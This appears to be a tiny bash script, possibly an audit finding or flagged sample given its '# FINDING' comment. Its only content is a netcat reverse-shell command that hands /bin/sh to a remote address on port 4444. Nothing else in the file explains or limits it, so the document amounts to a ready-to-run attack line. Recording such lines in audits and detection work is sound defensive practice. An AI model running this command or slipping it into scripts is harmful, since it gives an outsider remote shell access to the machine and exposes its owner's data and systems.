#!/bin/bash
nc 203.0.113.4 4444 -e /bin/sh  # FINDING
